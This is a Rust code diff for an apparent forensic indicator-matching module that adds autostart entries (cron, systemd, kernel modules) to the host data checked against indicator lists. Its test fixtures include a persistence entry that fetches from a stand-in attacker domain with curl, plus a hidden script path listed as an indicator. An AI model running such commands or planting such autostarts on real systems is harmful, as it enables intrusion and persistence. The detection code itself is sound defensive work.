@@ -1,5 +1,5 @@
-//! What a system told of itself, held against indicators: the rows of sockets, of the network, of processes, of what runs,
-//! and of the registry.
+//! What a system told of itself, held against indicators: the rows of sockets, of the network, of processes, of what runs, of
+//! what starts by itself, and of the registry.
 //!
 //! In: the JSON lines of an item of rows, as much as the caller holds of it. Out: hits, each with the value that the row
 //! has. Each kind of row is known by the schema in the first line; only fields that say what the host does are held
@@ -21,16 +21,47 @@ const HITS: usize = 256;
 /// a look-up in all patterns.
 const WORDS: usize = 256;
 
-/// What a row of a schema is asked.
-type Ask = fn(&Indicators, &Value) -> Vec<Hit>;
+/// What a row of a schema is asked: field by field, or, where what one field says depends on another, by its own function.
+enum Ask {
+    /// The fields that say something, and what they hold.
+    Fields(&'static [(&'static str, Field)]),
+    By(fn(&Indicators, &Value) -> Vec<Hit>),
+}
 
-/// How the names of the schemas begin, their version left out, and what their rows are asked.
-const SCHEMAS: [(&str, Ask); 5] = [
-    ("urn:veldkit:live:sockets:", socket),
-    ("urn:veldkit:live:network:", network),
-    ("urn:veldkit:live:processes:", process),
-    ("urn:veldkit:live:executables:", executable),
-    ("urn:veldkit:derived:registry:", registry),
+/// What a field of a row holds. A list of it is asked one by one.
+enum Field {
+    /// An address, or one with its interface or port behind it.
+    Address,
+    /// The path of a file.
+    Path,
+    /// A command line, or a word of one.
+    Command,
+    /// MD5, SHA-1 or SHA-256 of a file, in hexadecimal digits.
+    Digest,
+}
+
+/// How the names of the schemas begin, their version left out, and what their rows are asked. Another artifact of rows is
+/// held against the lists once its fields are named here.
+const SCHEMAS: [(&str, Ask); 6] = [
+    // Own addresses are the host's, and an address that listens is nobody's.
+    ("urn:veldkit:live:sockets:", Ask::Fields(&[("remote", Field::Address)])),
+    ("urn:veldkit:live:network:", Ask::By(network)),
+    (
+        "urn:veldkit:live:processes:",
+        Ask::Fields(&[("program", Field::Path), ("command_line", Field::Command)]),
+    ),
+    ("urn:veldkit:live:executables:", Ask::Fields(&[("sha256", Field::Digest), ("path", Field::Path)])),
+    (
+        "urn:veldkit:live:autostarts:",
+        Ask::Fields(&[
+            ("file", Field::Path),
+            ("launcher", Field::Path),
+            ("target", Field::Path),
+            ("command", Field::Command),
+            ("sha256", Field::Digest),
+        ]),
+    ),
+    ("urn:veldkit:derived:registry:", Ask::By(registry)),
 ];
 
 /// What the rows of an item meet; nothing where it is none, or its rows say nothing that a list can name.
@@ -45,7 +76,7 @@ pub(super) fn find(indicators: &Indicators, origin: &Origin, bytes: &[u8]) -> Op
     let (mut hits, mut seen) = (Vec::new(), BTreeSet::new());
     for row in lines.filter_map(|line| serde_json::from_slice::<Value>(line).ok()) {
         // A hundred connections to one address are one thing to be told.
-        let new = ask(indicators, &row).into_iter();
+        let new = asked(ask, indicators, &row).into_iter();
         hits.extend(new.filter(|hit| seen.insert((hit.rule.clone(), hit.source.clone(), hit.value.clone()))));
         if hits.len() >= HITS {
             hits.truncate(HITS);
@@ -55,15 +86,33 @@ pub(super) fn find(indicators: &Indicators, origin: &Origin, bytes: &[u8]) -> Op
     Some(hits)
 }
 
-/// The other end of a connection. Own addresses are the host's, and an address that listens is nobody's.
-fn socket(indicators: &Indicators, row: &Value) -> Vec<Hit> {
-    address(indicators, row.get("remote")).unwrap_or_default()
+fn asked(ask: &Ask, indicators: &Indicators, row: &Value) -> Vec<Hit> {
+    let fields = match ask {
+        Ask::Fields(fields) => fields,
+        Ask::By(ask) => return ask(indicators, row),
+    };
+    let mut hits = Vec::new();
+    for (name, field) in *fields {
+        let Some(value) = row.get(*name) else { continue };
+        let list = value.as_array().map_or(std::slice::from_ref(value), Vec::as_slice);
+        for held in list.iter().take(WORDS).filter_map(|held| text(Some(held))) {
+            hits.extend(match field {
+                Field::Address => address(indicators, held).unwrap_or_default(),
+                Field::Path => path(indicators, held),
+                Field::Command => said(indicators, held),
+                Field::Digest => indicators.digest(held),
+            });
+        }
+    }
+    hits
 }
 
 /// Whom the host asks for names, and what its own table of names says.
 fn network(indicators: &Indicators, row: &Value) -> Vec<Hit> {
     match row.get("row").and_then(Value::as_str) {
-        Some("resolver" | "neighbour") => address(indicators, row.get("address")).unwrap_or_default(),
+        Some("resolver" | "neighbour") => {
+            text(row.get("address")).and_then(|held| address(indicators, held)).unwrap_or_default()
+        }
         // A name that is led to nowhere was blocked.
         Some("host") => {
             let to = text(row.get("address")).and_then(|text| text.parse::<IpAddr>().ok());
@@ -80,26 +129,6 @@ fn network(indicators: &Indicators, row: &Value) -> Vec<Hit> {
         }
         _ => Vec::new(),
     }
-}
-
-/// The program, and what of its command line is a path, a URL, or the name of a program to start.
-fn process(indicators: &Indicators, row: &Value) -> Vec<Hit> {
-    let words = row.get("command_line").and_then(Value::as_array).into_iter().flatten();
-    let words = words.take(WORDS).filter_map(|word| text(Some(word)));
-    let words = words.flat_map(|word| said(indicators, word));
-    text(row.get("program"))
-        .map(|program| path(indicators, program))
-        .into_iter()
-        .flatten()
-        .chain(words)
-        .collect()
-}
-
-/// The file that runs, by its path and its digest.
-fn executable(indicators: &Indicators, row: &Value) -> Vec<Hit> {
-    let digest = text(row.get("sha256")).map(|digest| indicators.digest(digest));
-    let path = text(row.get("path")).map(|text| path(indicators, text));
-    digest.into_iter().chain(path).flatten().collect()
 }
 
 /// A key or a value. What a value holds is asked as a command line is: it is where a host is told what to start.
@@ -149,8 +178,7 @@ fn is_windows(path: &str) -> bool {
     path.contains('\\') || path.get(1..2) == Some(":")
 }
 
-fn address(indicators: &Indicators, value: Option<&Value>) -> Option<Vec<Hit>> {
-    let text = text(value)?;
+fn address(indicators: &Indicators, text: &str) -> Option<Vec<Hit>> {
     // An address of a link is followed by its interface.
     let address: IpAddr = text.split('%').next()?.parse().ok()?;
     Some(indicators.address(&address))
@@ -255,6 +283,22 @@ mod tests {
         let found = rules(list, schema, &rows);
         assert_eq!(found.len(), 2, "{found:?}");
         assert!(found[0].starts_with("registry:") && found[1].starts_with("path:"), "{found:?}");
+    }
+
+    #[test]
+    fn what_starts_by_itself_is_held_against_paths_commands_and_digests() {
+        let digest = "cd".repeat(32);
+        let list = format!("type,value\nfilename,/opt/.x/run.sh\ndomain,evil.example.org\nsha256,{digest}\n");
+        let rows = [
+            json!({"row": "start", "kind": "cron", "file": "/etc/crontab", "command": "/opt/.x/run.sh -q"}),
+            json!({"row": "start", "kind": "systemd", "file": "/etc/systemd/system/a.service",
+                "command": "/usr/bin/curl http://cdn.evil.example.org/a"}),
+            json!({"row": "module", "target": "/lib/modules/x.ko", "sha256": digest}),
+            json!({"row": "start", "kind": "cron", "file": "/etc/crontab", "command": "/usr/bin/good"}),
+        ];
+        let found = rules(&list, "urn:veldkit:live:autostarts:1", &rows);
+        assert_eq!(found.len(), 3, "{found:?}");
+        assert!(found[0].contains("/opt/.x/run.sh") && found[2].starts_with("sha256:"), "{found:?}");
     }
 
     #[test]
